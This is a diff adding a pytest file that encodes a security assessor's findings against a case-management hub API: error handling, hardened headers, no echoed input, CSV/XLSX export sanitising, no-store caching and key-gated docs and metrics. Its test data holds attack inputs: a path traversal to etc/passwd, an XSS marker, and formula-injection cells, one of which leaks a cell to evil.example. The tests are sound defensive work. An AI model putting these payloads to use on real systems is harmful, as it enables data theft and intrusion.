@@ -1,0 +1,154 @@
+"""What a 等保 level-3 assessor wrote up against a hub set up from the README (issue 42), one test per finding,
+each failing on the main it was found on: the 500s, the echoed values, formula injection in exports, answers
+that may be cached, the open docs and metrics, the admin key that skipped the second factor, weak passwords,
+the unlimited old-password guess. In-process hubs (TestClient) with an injected clock."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+
+from tests.hubkit import api_client
+
+T = datetime(2026, 12, 7, 2, 0, tzinfo=UTC)
+KEYS = {"admin": ("admin", None), "ops": ("operator", "district-a"), "edge": ("edge", None)}
+ADMIN = {"Authorization": "Bearer key-admin"}
+OPS = {"Authorization": "Bearer key-ops"}
+EDGE = {"Authorization": "Bearer key-edge"}
+HARDENED = ("content-security-policy", "x-content-type-options", "x-frame-options", "referrer-policy")
+
+
+@pytest.fixture
+def client(tmp_path):
+    with api_client(f"sqlite:///{tmp_path / 'hub.sqlite'}", KEYS, T) as c:
+        yield c
+
+
+def _hardened(r) -> None:
+    for h in HARDENED:
+        assert h in r.headers, (r.status_code, h, dict(r.headers))
+
+
+# ---- 4xx, never 500, with the same headers ---------------------------------------------------------------
+@pytest.mark.parametrize("path", ["/board/%00", "/board/index.html%00.js", "/board/" + "a" * 5000,
+                                  "/board/" + "%2e%2e%2f" * 3 + "etc%2fpasswd"])
+def test_odd_file_names_on_the_board_are_404_with_the_headers(client, path):
+    r = client.get(path)
+    assert r.status_code == 404, (r.status_code, r.text[:200])
+    _hardened(r)
+
+
+def test_an_unpaired_surrogate_in_a_body_is_a_4xx_with_the_headers_and_stores_nothing(client):
+    opened = client.post("/api/v1/cases", headers=OPS, json={"title": "井盖缺失", "grid": "grid-01",
+                                                             "category": "city_management"})
+    assert opened.status_code == 201, opened.text
+    cid = opened.json()["id"]
+    before = client.get(f"/api/v1/cases/{cid}", headers=OPS).json()
+    raw = b'{"note": "x\\ud800y"}'
+    r = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"}, content=raw)
+    assert r.status_code == 422, (r.status_code, r.text[:300])
+    assert "ud800" not in r.text.lower() and "x\\ud800" not in r.text
+    _hardened(r)
+    low = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"},
+                      content=b'{"note": "\\udc00 alone"}')
+    assert low.status_code == 422, low.text
+    # a surrogate pair (an emoji written escaped) is fine
+    ok = client.post(f"/api/v1/cases/{cid}/comment", headers={**OPS, "Content-Type": "application/json"},
+                     content=b'{"note": "\\ud83d\\ude00 \\u5df2\\u5230\\u573a"}')
+    assert ok.status_code == 200, ok.text
+    after = client.get(f"/api/v1/cases/{cid}", headers=OPS).json()
+    notes = [e["detail"].get("text") for e in after["timeline"] if e.get("action") == "comment"]
+    assert notes == ["\U0001F600 已到场"], notes
+    assert len(after["timeline"]) == len(before["timeline"]) + 1
+
+
+def test_an_unexpected_error_is_a_500_with_the_headers_and_no_trace(client, monkeypatch):
+    from hub.api import board
+
+    monkeypatch.setattr(board, "BOARD", None)  # the page's folder gone: the handler itself fails
+    r = client.get("/board/board.js")
+    assert r.status_code == 500
+    assert "secret" not in r.text and "Traceback" not in r.text
+    assert r.json()["detail"]
+    _hardened(r)
+
+
+# ---- no 422 echoes a value ----------------------------------------------------------------------------
+MARK = "<svg onload=alert(1)>zz-echo"
+
+
+def test_refusals_do_not_echo_what_was_sent(client):
+    device = {"id": "gas-1", "kind": "gas", "grid": MARK}
+    answers = [
+        client.put("/api/v1/devices/gas-1", headers=OPS, json=device),
+        client.put("/api/v1/devices/gas-1", headers=OPS, json={**device, "grid": "grid-01", "id": MARK}),
+        client.get("/api/v1/stats", headers=OPS, params={"since": "1800-01-01T00:00:00.424242"}),
+        client.post("/api/v1/cases", headers=OPS, json={"title": "井盖缺失", "grid": MARK,
+                                                        "category": "city_management"}),
+        client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": MARK,
+                                                         "role": "operator", "password": "Gw!Tq-73-lvNa"}),
+        client.post("/api/v1/users", headers=ADMIN, json={"username": "li.na", "name": "李娜", "unit": "grid-01",
+                                                         "role": MARK, "password": "Gw!Tq-73-lvNa"}),
+    ]
+    for r in answers:
+        assert 400 <= r.status_code < 500, (r.status_code, r.text)
+        assert "zz-echo" not in r.text and "1800-01-01" not in r.text and "424242" not in r.text, r.text
+
+
+# ---- exports: formula-leading cells neutralised (OWASP CSV injection) -------------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1"]
+
+
+def test_exported_cells_never_start_a_formula(client):
+    for title in FORMULAS:
+        r = client.post("/api/v1/cases", headers=OPS, json={"title": title, "grid": "grid-01",
+                                                            "category": "city_management"})
+        assert r.status_code == 201, r.text
+    text = client.get("/api/v1/cases/export", headers=OPS).content.decode("utf-8-sig")
+    titles = [row[9] for row in list(csv.reader(io.StringIO(text)))[1:]]
+    assert sorted(titles) == sorted("'" + t for t in FORMULAS), titles
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(client.get("/api/v1/cases/export", headers=OPS,
+                                             params={"format": "xlsx"}).content))
+    cells = [row[9] for row in wb.active.iter_rows(min_row=2, values_only=True)]
+    assert sorted(cells) == sorted("'" + t for t in FORMULAS), cells
+    for row in wb.active.iter_rows(min_row=2):
+        assert row[9].data_type == "s", row[9].data_type  # text, never a live formula
+
+
+# ---- nothing personal or about cases cached -------------------------------------------------------------
+def test_api_answers_with_personal_or_case_data_are_not_stored_by_caches(client):
+    cid = client.post("/api/v1/cases", headers=OPS, json={"title": "占道经营", "grid": "grid-01",
+                                                          "category": "city_management"}).json()["id"]
+    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
+           b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
+    photo = client.post(f"/api/v1/cases/{cid}/photos", headers={**OPS, "Content-Type": "image/png"}, content=png)
+    assert photo.status_code == 201, photo.text
+    for path, h in (("/api/v1/me", OPS), ("/api/v1/cases", OPS), (f"/api/v1/cases/{cid}", OPS),
+                    ("/api/v1/users", ADMIN), ("/api/v1/cases/export", OPS),
+                    (photo.json()["photos"][0]["url"], OPS),
+                    ("/api/v1/me", {"Authorization": "Bearer wrong"})):
+        r = client.get(path, headers=h)
+        assert "no-store" in r.headers.get("cache-control", ""), (path, r.status_code, r.headers.get("cache-control"))
+
+
+# ---- the docs and metrics need a key, or a network that is let in -----------------------------------------
+@pytest.mark.parametrize("path", ["/docs", "/redoc", "/openapi.json", "/metrics"])
+def test_docs_and_metrics_need_a_key(client, path):
+    r = client.get(path)
+    assert r.status_code == 401, (path, r.status_code)
+    _hardened(r)
+    assert client.get(path, headers=OPS).status_code == 200
+
+
+def test_a_configured_network_reads_metrics_without_a_key(tmp_path):
+    # TestClient's peer is "testclient", which no network holds: a served hub is asked from 127.0.0.1
+    from hub.api.opsdoors import Doors
+
+    doors = Doors(["127.0.0.0/8", "10.1.2.0/24"])
+    assert doors.open_to("127.0.0.1") and doors.open_to("10.1.2.9")
+    assert not doors.open_to("10.1.3.9") and not doors.open_to("testclient") and not Doors([]).open_to("127.0.0.1")
